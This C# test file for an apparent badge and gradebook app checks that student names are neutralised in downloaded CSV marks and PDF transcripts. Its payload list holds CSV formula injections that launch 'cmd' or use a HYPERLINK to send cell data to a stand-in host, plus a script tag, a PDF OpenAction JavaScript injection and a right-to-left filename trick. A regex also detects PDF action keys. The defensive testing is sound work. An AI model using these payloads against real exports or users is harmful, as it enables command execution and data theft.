using System.Text;
using System.Text.RegularExpressions;
using SkillBadges.App.Tests.Pdf;
using SkillBadges.Core.Organizations;
using SkillBadges.Core.Storage;

namespace SkillBadges.App.Tests.Gradebook;

/// <summary>Names and texts that run somewhere - as a formula, as markup, as an action of a PDF - leave as plain words in every file that is downloaded.</summary>
[Collection(DistrictCollection.Name)]
public sealed partial class HostileDownloadTests(TestDistrict district)
{
    private static readonly string[] Names =
    [
        "=HYPERLINK(\"https://elsewhere.example?\"&A1,\"open\")", "+cmd|'/C calc'!A0", "-2+3+cmd|'/C calc'!A0", "@SUM(1+1)*cmd|'/C calc'!A0", "＝1+1", "<script>ran(1)</script>", ") >> /OpenAction << /S /JavaScript /JS (app.alert(1)",
        "\",=1+1,\"", "\u202Eexe.fdp",
    ];

    [PdfFact]
    public async Task No_cell_begins_a_formula_and_no_document_holds_an_action()
    {
        var teacher = await district.App.PersonAsync(district.West, Role.Teacher);
        using var asTeacher = await district.AsAsync(teacher);
        var learners = new List<PersonId>();
        foreach (var name in Names)
        {
            learners.Add(await NamedAsync(name));
            await district.ClassAsync(district.West, learners[^1], teacher);
        }

        var first = learners[6];
        await district.ClassAsync(district.West, first, district.Teacher, district.SecondTeacher);
        var award = (await district.ApprovedAsync(first)).Answer.Award!.Id;
        var section = new ClassSection(ClassSectionId.New(district.App.Clock.Now()), district.West, "=1+1", district.App.Clock.Now()) { Teachers = [teacher], Students = [.. learners] };
        await district.Store.CommitAsync(new Changes().Add(ClassSectionDocuments.Kind, section), default);
        using var marks = await asTeacher.GetAsync(new Uri($"/api/class-sections/{section.Id}/marks/csv", UriKind.Relative));
        var table = await marks.Content.ReadAsStringAsync();
        Assert.True(marks.IsSuccessStatusCode, table);
        Saved(marks, "text/csv");
        Assert.Contains("HYPERLINK", table, StringComparison.Ordinal);
        Assert.Empty(Cell().Matches(table).Select(cell => cell.Groups[1].Value).Where(cell => cell.Length > 0 && "=+-@\t\r＝＋－＠".Contains(cell[0], StringComparison.Ordinal)));

        using var own = await district.AsAsync(first);
        foreach (var address in new[] { $"/api/learners/{first}/transcript?form=pdf&issuer={district.West}", $"/api/learners/{first}/conference-sheet?issuer={district.West}", $"/api/learners/{first}/hours?organization={district.West}", $"/api/awards/{award}/certificate" })
        {
            using var answer = await own.GetAsync(new Uri(address, UriKind.Relative));
            var document = await answer.Content.ReadAsByteArrayAsync();
            Assert.True(answer.IsSuccessStatusCode, $"{address}: {Encoding.UTF8.GetString(document)}");
            Saved(answer, "application/pdf");
            HoldsNoAction(document);
        }
    }

    /// <summary>That a document does nothing when it is opened, and is one.</summary>
    internal static void HoldsNoAction(byte[] document)
    {
        PdfTools.Check(document);
        Assert.DoesNotMatch(Action(), Words().Replace(Metadata().Replace(PdfTools.Objects(document), ""), "()"));
    }

    /// <summary>That a browser saves it under a plain name and takes it for nothing else.</summary>
    internal static void Saved(HttpResponseMessage answer, string mediaType)
    {
        Assert.Equal(mediaType, answer.Content.Headers.ContentType?.MediaType);
        Assert.Contains("attachment", answer.Content.Headers.ContentDisposition?.DispositionType ?? "none", StringComparison.Ordinal);
        Assert.Contains("nosniff", answer.Headers.GetValues("X-Content-Type-Options"));
        Assert.Matches("^[a-z0-9.-]+$", answer.Content.Headers.ContentDisposition!.FileName?.Trim('"') ?? "");
    }

    private async Task<PersonId> NamedAsync(string name)
    {
        var id = await district.App.PersonAsync(district.West, Role.Student);
        var read = await district.Store.GetAsync(PersonDocuments.Kind, id.Value, "person", default);
        await district.Store.CommitAsync(new Changes().Replace(PersonDocuments.Kind, read, read.Document with { DisplayName = name }), default);
        return id;
    }

    [GeneratedRegex("\"((?:[^\"]|\"\")*)\"")]
    private static partial Regex Cell();

    [GeneratedRegex(@"\((?:\\.|[^\\()])*\)", RegexOptions.Singleline)]
    private static partial Regex Words();

    // XML, in which the title stands escaped.
    [GeneratedRegex(@"<\?xpacket begin.*?<\?xpacket end", RegexOptions.Singleline)]
    private static partial Regex Metadata();

    // Names of a dictionary, not words of a text.
    [GeneratedRegex(@"/(JavaScript|JS|OpenAction|AA|Launch|SubmitForm|ImportData|RichMedia)[\s/(<\[]")]
    private static partial Regex Action();
}
